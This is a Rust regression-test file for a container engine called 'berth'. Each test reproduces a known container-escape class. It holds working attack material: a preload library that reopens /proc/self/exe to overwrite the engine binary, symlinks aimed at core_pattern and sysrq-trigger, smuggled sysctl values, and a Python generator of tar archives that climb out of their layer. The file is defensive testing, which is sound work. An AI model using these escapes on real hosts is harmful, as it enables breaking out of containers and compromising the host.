//! One regression test for each class of vulnerability that container engines have had, and that touches what exists here.
//!
//! Where Debian's runc has the hole, the same attack runs on it too: that shows that the test can fail.

use crate::harness::{Background, Finished, Host, IMAGE, eventually, finish, rootfs_archive};
use std::os::unix::fs::{MetadataExt, PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::Command;

/// Imports a folder as an image.
fn import(host: &Host, folder: &Path, name: &str) {
    let archive = host.path(&format!("{name}.tar"));
    let mut tar = Command::new("tar");
    tar.arg("-C").arg(folder).args(["--numeric-owner", "--owner=0", "--group=0", "-cf"]).arg(&archive).arg(".");
    assert!(tar.status().unwrap().success());
    host.berth(["import", archive.to_str().unwrap(), name]).ok();
}

/// A folder with what [`IMAGE`] holds, to be changed.
fn rootfs(host: &Host, name: &str) -> PathBuf {
    let folder = host.path(name);
    std::fs::create_dir_all(&folder).unwrap();
    assert!(Command::new("tar").arg("-C").arg(&folder).arg("-xf").arg(rootfs_archive()).status().unwrap().success());
    folder
}

fn digest_of(path: &Path) -> String {
    base::digest::Digest::sha256(&std::fs::read(path).unwrap()).to_string()
}

fn binary() -> &'static Path {
    Path::new(env!("CARGO_BIN_EXE_berth"))
}

/// Runs runc on a bundle whose specification `change` has changed.
fn runc(host: &Host, folder: &Path, change: impl FnOnce(&mut serde_json::Value)) -> Finished {
    let bundle = host.path("bundle");
    std::fs::create_dir_all(&bundle).unwrap();
    let _ = std::fs::remove_file(bundle.join("config.json"));
    let mut spec = Command::new("runc");
    spec.arg("spec").current_dir(&bundle);
    finish(spec, b"").ok();
    let path = bundle.join("config.json");
    let mut config: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    config["root"] = serde_json::json!({"path": folder, "readonly": false});
    config["process"]["terminal"] = false.into();
    change(&mut config);
    std::fs::write(&path, config.to_string()).unwrap();
    let mut run = Command::new("runc");
    run.arg("--root").arg(host.path("runc")).arg("run").arg("--bundle").arg(&bundle);
    run.arg(format!("berth-test-{}-{}", std::process::id(), folder.file_name().unwrap().display()));
    finish(run, b"")
}

/// What a process that holds a program's file as its descriptor 7 can do to it, once nobody runs from the file any more: before that the kernel refuses to
/// write to any program, which would prove nothing.
const WRITE: &str = r#"[ -e /proc/$$/fd/7 ] || exit 9
echo "holds $(readlink /proc/$$/fd/7)"
(echo evil >> /proc/$$/fd/7) 2>&1 && echo "wrote"
true"#;

/// Fails unless [`WRITE`] held the engine's program and was kept from writing by what the file is, not by who runs from it.
#[track_caller]
fn assert_out_of_reach(seen: &str) {
    // Where the kernel cannot put it on a read-only mount of its own, it is a sealed copy, from which its supervisor still runs.
    let copy = seen.contains("holds /memfd:berth");
    assert!(copy || seen.contains("holds /berth"), "the attack is not right: {seen}");
    assert!((copy || seen.contains("Read-only file system")) && !seen.contains("wrote"), "{seen}");
}

/// A container's file system in which the engine's program, if it is executed, loads what the attacker wants.
fn rootfs_with_a_false_library(host: &Host) -> PathBuf {
    let folder = rootfs(host, "library");
    let mut ldd = Command::new("ldd");
    ldd.arg(binary());
    let linked = finish(ldd, b"").ok().stdout;
    for path in linked.split_whitespace().filter(|word| word.starts_with('/')) {
        let target = folder.join(&path[1..]);
        std::fs::create_dir_all(target.parent().unwrap()).unwrap();
        std::fs::copy(path, target).unwrap();
    }
    let source = host.file(
        "library.c",
        "#include <fcntl.h>\n#include <unistd.h>\n__attribute__((constructor)) static void take(void) {\n\
         dup2(open(\"/proc/self/exe\", O_RDONLY), 7); execl(\"/bin/busybox\", \"sh\", \"/write\", (char *)0); }\n",
    );
    let mut compiler = Command::new("cc");
    compiler.args(["-shared", "-fPIC", "-o"]).arg(folder.join("library.so")).arg(source);
    finish(compiler, b"").ok();
    std::fs::write(folder.join("etc/ld.so.preload"), "/library.so\n").unwrap();
    std::fs::write(folder.join("write"), WRITE).unwrap();
    std::fs::write(folder.join("script"), "#!/proc/self/exe\n").unwrap();
    std::fs::set_permissions(folder.join("script"), PermissionsExt::from_mode(0o755)).unwrap();
    folder
}

/// CVE-2019-5736: the entry point is `/proc/self/exe`, or a script whose interpreter it is, so that the engine's own program is what runs, with a library of
/// the image.
#[test]
fn the_engines_binary_as_entry_point() {
    let host = Host::new();
    let before = digest_of(binary());
    import(&host, &rootfs_with_a_false_library(&host), "library");
    host.berth(["run", "-d", "--name", "c1", "library", "sleep", "1000"]).ok();
    for arguments in [&["run", "--rm", "library"][..], &["run", "--rm", "--privileged", "library"], &["exec", "c1"]] {
        for program in ["/proc/self/exe", "/script"] {
            assert_out_of_reach(&host.berth(arguments.iter().chain(&[program])).ok().stdout);
        }
    }
    assert_eq!(digest_of(binary()), before);
}

/// The same by a second process, which opens `/proc/PID/exe` of everybody who enters, and of an init of ours. Without the right to trace, nobody can.
#[test]
fn the_engines_binary_of_an_entering_process() {
    let before = digest_of(binary());
    let host = Host::with_image();
    // The open file is looked at again: whoever enters becomes another program.
    let take = "take() { for exe in /proc/[0-9]*/exe; do
        case $exe in $1) continue;; esac
        command exec 7<$exe || continue
        case $(readlink /proc/$$/fd/7) in */busybox) exec 7<&-;; *) return;; esac
        done; return 1; }
        until take $0 2>/dev/null; do :; done; touch /taken; until [ -e /over ]; do sleep 0.01; done";
    let script = format!("{take}\n{WRITE}");
    for (number, (flags, except)) in
        [("--privileged", "/proc/1/exe"), ("--privileged --init", "-"), ("--cap-add SYS_PTRACE", "/proc/1/exe")]
            .into_iter()
            .enumerate()
    {
        let name = format!("c{number}");
        let run = ["run", "-d", "--name", &name].into_iter().chain(flags.split(' '));
        host.berth(run.chain([IMAGE, "sh", "-c", &script, except])).ok();
        let taken = eventually(|| host.berth(["exec", &name, "test", "-e", "/taken"]).code == 0);
        assert!(taken, "nothing was opened: the attack is not right");
        host.berth(["exec", &name, "touch", "/over"]).ok();
        host.berth(["wait", &name]).ok();
        assert_out_of_reach(&host.berth(["logs", &name]).ok().stdout);
    }
    assert_eq!(digest_of(binary()), before);
}

/// CVE-2024-21626: the working directory is a descriptor that leads to the host. Debian has mended its runc.
#[test]
fn a_working_directory_that_is_a_descriptor() {
    let host = Host::with_image();
    let escape =
        "cat ../../../../../../../../etc/hostname 2>/dev/null; ls ../../../../../../../../var/tmp 2>/dev/null; true";
    for number in 0..30 {
        let directory = format!("/proc/self/fd/{number}");
        let finished = host.berth(["run", "--rm", "-w", &directory, IMAGE, "sh", "-c", escape]);
        assert!(!finished.stdout.contains("berth-test-"), "{directory}: {finished:?}");
    }
    host.berth(["run", "-d", "--name", "c1", IMAGE, "sleep", "1000"]).ok();
    for number in 3..30 {
        let directory = format!("/proc/self/fd/{number}");
        let finished = host.berth(["exec", "-w", &directory, "c1", "sh", "-c", escape]);
        assert!(!finished.stdout.contains("berth-test-"), "{directory}: {finished:?}");
    }
}

/// CVE-2019-19921, 2026-41579, 2026-47766: the image's `/dev`, `/proc` and mount points are links to somewhere else.
#[test]
fn links_in_place_of_dev_and_proc() {
    let host = Host::new();
    let outside = host.path("outside");
    std::fs::create_dir(&outside).unwrap();
    for (number, link) in ["dev", "proc", "sys", "etc", "target"].into_iter().enumerate() {
        for (which, target) in
            [outside.to_str().unwrap(), "tmp", "../../../../../../../../var/tmp"].into_iter().enumerate()
        {
            let name = format!("links{number}{which}");
            let folder = rootfs(&host, &name);
            let _ = std::fs::remove_dir_all(folder.join(link));
            symlink(target, folder.join(link)).unwrap();
            import(&host, &folder, &name);
            let finished = host.berth([
                "run",
                "--rm",
                "-v",
                "/usr/share:/target/x:ro",
                &name,
                "sh",
                "-c",
                "stat -f -c %T /proc; mount",
            ]);
            // It may be refused; where it runs, /proc is procfs.
            if finished.code == 0 {
                assert!(finished.stdout.starts_with("proc\n"), "{link} -> {target}: {finished:?}");
            }
            std::fs::remove_dir_all(folder).unwrap();
        }
    }
    assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 0);
    assert!(
        !Path::new("/var/tmp/null").exists()
            && !Path::new("/var/tmp/pts").exists()
            && !Path::new("/var/tmp/x").exists()
    );
}

/// CVE-2021-30465, 2024-45310: a mount point in a volume is swapped for a link to the host while containers are started on it.
#[test]
fn a_mount_point_that_is_swapped_in_a_loop() {
    let host = Host::with_image();
    host.berth(["volume", "create", "shared"]).ok();
    let outside = host.path("outside");
    std::fs::create_dir(&outside).unwrap();
    let swap = "mkdir -p /v/a/b; ln -s ../../../../../../../../../../..$0 /v/link; while :; do mv /v/a /v/x; mv /v/link /v/a; mv /v/a /v/link; mv /v/x /v/a; done";
    let mut swapper: Background = host.spawn([
        "run",
        "--rm",
        "--name",
        "swapper",
        "-v",
        "shared:/v",
        IMAGE,
        "sh",
        "-c",
        swap,
        outside.to_str().unwrap(),
    ]);
    assert!(eventually(|| host.berth(["exec", "swapper", "test", "-e", "/v/a"]).code == 0));
    for number in 0..40 {
        let target = format!("/v/a/b/deep{number}");
        let finished = host.berth(["run", "--rm", "-v", "shared:/v", "--tmpfs", &target, IMAGE, "true"]);
        assert!(finished.code == 0 || !finished.stderr.is_empty(), "{finished:?}");
    }
    swapper.write(b"");
    host.berth(["rm", "-f", "swapper"]).ok();
    drop(swapper);
    assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 0, "a mount point was made on the host");
    host.berth(["volume", "rm", "shared"]).ok();
}

/// CVE-2025-31133, 2025-52565: what is masked lies behind a link, and `/dev/null` of the image is one.
#[test]
fn masks_that_are_links() {
    let host = Host::with_image();
    let folder = rootfs(&host, "masks");
    std::fs::create_dir_all(folder.join("dev")).unwrap();
    symlink("/proc/sys/kernel/core_pattern", folder.join("dev/null")).unwrap();
    symlink("/proc/sysrq-trigger", folder.join("dev/console")).unwrap();
    import(&host, &folder, "masks");
    let script = "cat /proc/keys | wc -c; (echo x > /proc/sys/kernel/core_pattern) 2>/dev/null && echo wrote; [ -c /dev/null ] && echo device; grep -c core_pattern /proc/self/mountinfo";
    let finished = host.berth(["run", "--rm", "masks", "sh", "-c", script]);
    assert_eq!(finished.stdout, "0\ndevice\n0\n", "{finished:?}");
    // The link is in a folder that the container was given as its /dev: Debian's runc hides a file behind whatever the link names.
    let given = host.path("given");
    std::fs::create_dir(&given).unwrap();
    symlink("/proc/sys/kernel/ostype", given.join("null")).unwrap();
    let seen = host.berth(["run", "--rm", "-v", &format!("{}:/dev", given.display()), "masks", "cat", "/proc/keys"]);
    assert_eq!(seen.stdout, "", "{seen:?}");
    let seen = runc(&host, &rootfs(&host, "plain"), |config| {
        let mounts = config["mounts"].as_array_mut().unwrap();
        mounts.retain(|mount| !mount["destination"].as_str().unwrap().starts_with("/dev"));
        mounts.push(
            serde_json::json!({"destination": "/dev", "type": "bind", "source": given, "options": ["bind", "rw"]}),
        );
        config["process"]["args"] = serde_json::json!(["cat", "/proc/keys"]);
    });
    assert_eq!(seen.stdout, "Linux\n", "runc 1.1.5 should have shown it: the attack is not right: {seen:?}");
    let terminal = host.berth([
        "run",
        "--rm",
        "-t",
        "masks",
        "sh",
        "-c",
        "(echo b > /proc/sysrq-trigger) 2>/dev/null || echo refused; readlink /dev/console",
    ]);
    assert_eq!(terminal.stdout, "refused\r\n", "{terminal:?}");
}

/// CVE-2019-16884, 2025-52881: a false `/proc` takes labels and sysctls away from the real one.
#[test]
fn a_volume_over_proc_is_refused() {
    let host = Host::with_image();
    for target in ["/proc", "/proc/self", "/proc/sys/kernel", "/proc/../proc"] {
        for flag in [format!("--volume=fake:{target}"), format!("--tmpfs={target}"), format!("--volume=/tmp:{target}")]
        {
            let finished = host.berth([
                "run",
                "--rm",
                &flag,
                "--sysctl",
                "net.ipv4.ip_forward=1",
                IMAGE,
                "sh",
                "-c",
                "cat /proc/sys/net/ipv4/ip_forward; stat -f -c %T /proc",
            ]);
            assert!(finished.code == 125 || finished.stdout == "1\nproc\n", "{flag}: {finished:?}");
        }
    }
    let _ = host.berth(["volume", "rm", "-f", "fake"]);
}

/// CVE-2022-0811: a sysctl that carries another one, or reaches what has no namespace.
#[test]
fn sysctls_that_smuggle() {
    let host = Host::with_image();
    let before = std::fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap();
    for smuggled in [
        "kernel.shm_rmid_forced=1+kernel.core_pattern=|/evil",
        "kernel.shm_rmid_forced=1\nkernel.core_pattern=x",
        "net.ipv4/../../kernel/core_pattern=x",
        "net/ipv4/../../kernel/core_pattern=x",
        "net..kernel.core_pattern=x",
        "fs.mqueue.../core_pattern=x",
        "kernel.core_pattern=x",
    ] {
        host.berth(["run", "--rm", "--sysctl", smuggled, IMAGE, "true"]).code(125);
        assert_eq!(std::fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap(), before, "{smuggled}");
    }
}

/// CVE-2022-2995 and its kin: groups of the engine's own process must not come along, those of the image's user must.
#[test]
fn additional_groups() {
    let host = Host::with_image();
    let mut command = Command::new("setpriv");
    command
        .args(["--groups", "4,24,27,42"])
        .arg(binary())
        .arg("--root")
        .arg(host.root())
        .arg("--runroot")
        .arg(host.path("run"));
    command.args(["run", "--rm", IMAGE, "grep", "Groups", "/proc/self/status"]).env("HOME", host.path("home"));
    let seen = finish(command, b"").ok().out();
    assert!(["4", "24", "27", "42"].iter().all(|group| !seen.split_whitespace().any(|word| word == *group)), "{seen}");
    let seen = host.berth(["run", "--rm", "-u", "1000", IMAGE, "id", "-G"]).ok().out();
    assert_eq!(seen, "1000 2000", "a number that the image knows has the groups that the image gives it");
}

/// CVE-2022-24769 and three more: a set of inheritable capabilities makes file capabilities work that should not.
#[test]
fn no_capability_is_inheritable() {
    let host = Host::with_image();
    host.berth(["run", "-d", "--name", "c1", "--cap-add", "SYS_PTRACE", IMAGE, "sleep", "1000"]).ok();
    for arguments in [
        &["exec", "c1"][..],
        &["exec", "--privileged", "c1"],
        &["exec", "-u", "user", "c1"],
        &["run", "--rm", IMAGE],
        &["run", "--rm", "--privileged", IMAGE],
    ] {
        let seen = host.berth(arguments.iter().chain(&["grep", "-E", "Cap(Inh|Amb)", "/proc/self/status"])).ok().out();
        assert!(seen.lines().all(|line| line.ends_with("\t0000000000000000")), "{arguments:?}: {seen}");
    }
}

/// CVE-2026-46680: a number is a user id, whatever the image calls so.
#[test]
fn a_number_is_never_a_name() {
    let host = Host::new();
    let folder = rootfs(&host, "numbers");
    std::fs::write(folder.join("etc/passwd"), "1000:x:0:0::/root:/bin/sh\nroot:x:0:0::/root:/bin/sh\n").unwrap();
    std::fs::write(folder.join("etc/group"), "2000:x:0:\n").unwrap();
    import(&host, &folder, "numbers");
    assert_eq!(
        host.berth(["run", "--rm", "-u", "1000:2000", "numbers", "sh", "-c", "id -u; id -g"]).ok().out(),
        "1000\n2000"
    );
    host.berth(["run", "--rm", "-u", "99999999999", "numbers", "true"]).code(125);
    host.berth(["run", "--rm", "-u", "-1", "numbers", "true"]).code(125);
}

/// CVE-2026-47262: files of the image that the engine reads have a bound.
#[test]
fn endless_passwd_and_group() {
    let host = Host::new();
    for file in ["passwd", "group"] {
        let folder = rootfs(&host, file);
        let large = std::fs::File::create(folder.join("etc").join(file)).unwrap();
        large.set_len(8 << 30).unwrap();
        drop(large);
        // Sparse in the archive too, so that the test is small.
        let archive = host.path("sparse.tar");
        assert!(
            Command::new("tar")
                .arg("-C")
                .arg(&folder)
                .arg("--sparse")
                .arg("-cf")
                .arg(&archive)
                .arg(".")
                .status()
                .unwrap()
                .success()
        );
        host.berth(["import", archive.to_str().unwrap(), file]).ok();
        let finished = host.berth(["run", "--rm", "-u", "user", file, "true"]).code(125);
        assert!(finished.stderr.contains(&format!("/etc/{file}")), "{finished:?}");
        std::fs::remove_dir_all(folder).unwrap();
    }
    // A pipe never ends, and a link leads out.
    let folder = rootfs(&host, "pipe");
    std::fs::remove_file(folder.join("etc/passwd")).unwrap();
    assert!(Command::new("mkfifo").arg(folder.join("etc/passwd")).status().unwrap().success());
    import(&host, &folder, "pipe");
    assert_ne!(host.berth(["run", "--rm", "-u", "user", "pipe", "true"]).code, 0);
    let folder = rootfs(&host, "link");
    std::fs::remove_file(folder.join("etc/passwd")).unwrap();
    let secret = host.file("secret", "user:x:0:0::/:/bin/sh\n");
    symlink(secret, folder.join("etc/passwd")).unwrap();
    import(&host, &folder, "link");
    host.berth(["run", "--rm", "-u", "user", "link", "true"]).code(125).says("user");
}

/// CVE-2026-53488: labels of an image are only labels, whatever they are called.
#[test]
fn labels_of_an_image_steer_nothing() {
    let host = Host::new();
    let marker = host.path("marker");
    let archive = rootfs_archive().to_str().unwrap();
    let logger = format!("LABEL containerd.io/restart.loguri=binary:///bin/touch?{}", marker.display());
    let changes = [
        "LABEL containerd.io/restart.status=running",
        &logger,
        "LABEL berth.restart=always",
        "LABEL org.berth.privileged=true",
        "LABEL io.kubernetes.cri.sandbox=x",
    ];
    let mut arguments = vec!["import"];
    for change in changes {
        arguments.extend(["-c", change]);
    }
    arguments.extend([archive, "labels"]);
    host.berth(arguments).ok();
    host.berth(["run", "--name", "c1", "labels", "sh", "-c", "grep CapBnd /proc/self/status; mount | grep -c marker"])
        .code(1);
    assert_eq!(
        host.inspect("c1", "{{.HostConfig.RestartPolicy.Name}} {{.HostConfig.Privileged}} {{.RestartCount}}"),
        "no false 0"
    );
    assert!(!marker.exists());
}

/// CVE-2020-15257: a container in the host's network sees no abstract socket of the engine.
#[test]
fn no_abstract_sockets() {
    let host = Host::with_image();
    host.berth(["run", "-d", "--name", "c1", "--restart", "always", IMAGE, "sleep", "1000"]).ok();
    // A host's network in which only this engine ever was.
    let script = "berth=\"$*\"; $berth run -d --network host --name n1 --restart always busybox sleep 1000 && \
        $berth exec n1 cat /proc/net/unix && $berth rm -f n1";
    let mut command = Command::new("unshare");
    command.args(["--net", "sh", "-ec", script, "sh"]).arg(binary()).arg("--root").arg(host.path("root2"));
    command.arg("--runroot").arg(host.path("run"));
    let mut import = Command::new(binary());
    import.arg("--root").arg(host.path("root2")).args(["import", rootfs_archive().to_str().unwrap(), IMAGE]);
    finish(import, b"").ok();
    let seen = finish(command, b"").ok().out();
    let sockets: Vec<&str> = seen.lines().filter(|line| line.split_whitespace().count() >= 7).collect();
    assert!(sockets.iter().any(|line| line.contains("control.sock")), "the engine's sockets are elsewhere: {seen}");
    assert!(!sockets.iter().any(|line| line.contains('@')), "{sockets:?}");
    let id = host.inspect("c1", "{{.Id}}");
    let directory = host.root().join("containers").join(id);
    for path in [directory.clone(), directory.join("control.sock")] {
        assert_eq!(std::fs::metadata(&path).unwrap().mode() & 0o077, 0, "{}", path.display());
    }
}

/// CVE-2026-17106, 2018-15664 and the rest of the family: an archive that writes beside its layer. The layer's tests try many more.
#[test]
fn archives_that_climb_out() {
    let host = Host::new();
    let outside = host.path("outside");
    std::fs::create_dir(&outside).unwrap();
    std::fs::write(outside.join("file"), "of the host").unwrap();
    let python = r#"
import io, sys, tarfile
def add(archive, name, kind=tarfile.REGTYPE, link='', device=(0, 0), data=b'evil'):
    entry = tarfile.TarInfo(name)
    entry.type, entry.linkname, (entry.devmajor, entry.devminor) = kind, link, device
    entry.size = len(data) if kind == tarfile.REGTYPE else 0
    archive.addfile(entry, io.BytesIO(data))
outside, folder = sys.argv[1], sys.argv[2]
up = '../' * 20
attacks = {
    'dots': [(up + outside[1:] + '/taken',)],
    'absolute': [(outside + '/taken',)],
    'link': [('l', tarfile.SYMTYPE, outside), ('l/taken',)],
    'parent': [('d', tarfile.DIRTYPE), ('d/l', tarfile.SYMTYPE, up + outside[1:]), ('d/l/taken',)],
    'hard': [('h', tarfile.LNKTYPE, outside + '/file'), ('h',)],
    'hardup': [('h', tarfile.LNKTYPE, up + outside[1:] + '/file'), ('h',)],
    'hardlink': [('l', tarfile.SYMTYPE, outside), ('h', tarfile.LNKTYPE, 'l/file'), ('h',)],
    'whiteout': [('l', tarfile.SYMTYPE, outside), ('l/.wh.file',)],
    'whiteoutup': [('.wh...',)],
    'overwrite': [('l', tarfile.SYMTYPE, outside + '/file'), ('l',)],
}
for name, entries in attacks.items():
    with tarfile.open(f'{folder}/{name}.tar', 'w') as archive:
        for entry in entries:
            add(archive, *entry)
"#;
    let mut command = Command::new("python3");
    command.args(["-c", python]).arg(&outside).arg(host.path(""));
    finish(command, b"").ok();
    for name in
        ["dots", "absolute", "link", "parent", "hard", "hardup", "hardlink", "whiteout", "whiteoutup", "overwrite"]
    {
        let _ = host.berth(["import", host.path(&format!("{name}.tar")).to_str().unwrap(), name]);
        let names: Vec<_> = std::fs::read_dir(&outside).unwrap().map(|entry| entry.unwrap().file_name()).collect();
        assert_eq!(names, ["file"], "{name}");
        assert_eq!(std::fs::read_to_string(outside.join("file")).unwrap(), "of the host", "{name}");
        assert_eq!(std::fs::metadata(outside.join("file")).unwrap().nlink(), 1, "{name}");
    }
}

/// R6: nothing that the engine has open reaches a process, at start or by exec, with a terminal or without.
#[test]
fn no_descriptor_leaks() {
    let host = Host::with_image();
    host.berth(["run", "-d", "--name", "c1", "-v", "data:/d", IMAGE, "sleep", "1000"]).ok();
    let list = "ls -l /proc/self/fd 2>/dev/null | grep ' -> ' | grep -v -e ' -> /proc/' -e pipe: -e socket: -e /dev/ -e '^total' || true";
    for arguments in [
        vec!["exec", "c1"],
        vec!["exec", "-t", "c1"],
        vec!["run", "--rm", IMAGE],
        vec!["run", "--rm", "-t", IMAGE],
        vec!["run", "--rm", "--privileged", IMAGE],
        vec!["run", "--rm", "--init", IMAGE],
    ] {
        let all: Vec<&str> = arguments.iter().copied().chain(["sh", "-c", list]).collect();
        assert_eq!(host.berth(all).ok().out(), "", "{arguments:?}");
    }
    host.berth(["rm", "-f", "c1"]).ok();
    host.berth(["volume", "rm", "data"]).ok();
}
